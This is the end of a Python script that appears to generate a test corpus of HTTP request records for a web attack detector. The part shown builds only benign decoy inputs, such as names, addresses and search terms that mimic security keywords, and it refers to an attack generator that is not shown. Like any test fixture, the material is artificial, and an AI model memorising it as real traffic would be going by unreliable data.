    "call me at 169 254 1690 ext 2",
    "version 10.0.0.5 release notes",
    "Kernel panic in the kiosk, reboot fixed it",
    "Eval Santos",
    "Constructor Ltd invoices",
]

NAMES = [
    "Ruby Chen", "Pearl O'Connor", "Perla Núñez", "Angela Script", "Evalyn Ross", "Phil Php-Nguyen",
    "Jo Window", "Dominic Cookie", "Sys Temeraire", "Java Mendes", "Node Olsen", "Mathilde Frame",
]
ADDRESSES = [
    "12 Script Street, Leeds", "4 Data Lane, Oslo", "Object Park 7, Utrecht", "221 Shell Road, Perth",
    "Ruby Court 3, Dublin", "8 Frame Close, Bath", "Prototype House, 1 Main St, Austin TX",
    "Metadata Centre, Unit 5, Cork", "100 Event Plaza, Denver CO", "Global Tower 2, Singapore",
]
SEARCHES = [
    "php", "php upload", "script", "javascript", "node", "ruby", "perl", "ssrf", "xss training",
    "prototype", "metadata", "data export", "onboarding", "alert", "cookie policy", "style",
    "window", "template", "serialize", "wrapper", "stream", "input", "process", "system status",
    "event", "frame", "object storage", "global", "angular", "shell",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, f"{prefix}-devchat")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, f"{prefix}-docs", n)
    for name in NAMES:
        n += 1
        yield {**_json("/api/users", {"name": name, "email": "person@example.org"}),
               "id": f"{prefix}-name-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**prose_request(name), "id": f"{prefix}-name-{n:04d}", "category": "benign", "placement": "form"}
    for addr in ADDRESSES:
        n += 1
        yield {**_json("/api/users", {"name": "Ann", "address": addr}),
               "id": f"{prefix}-address-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**prose_request(addr), "id": f"{prefix}-address-{n:04d}", "category": "benign", "placement": "form"}
    for term in SEARCHES:
        n += 1
        yield {**_get(_query("/api/users", [("q", term), ("page", "1")])),
               "id": f"{prefix}-search-{n:04d}", "category": "benign", "placement": "query"}
        n += 1
        yield {**prose_request(term), "id": f"{prefix}-search-{n:04d}", "category": "benign", "placement": "form"}


if __name__ == "__main__":
    print_records(attacks(), benign())
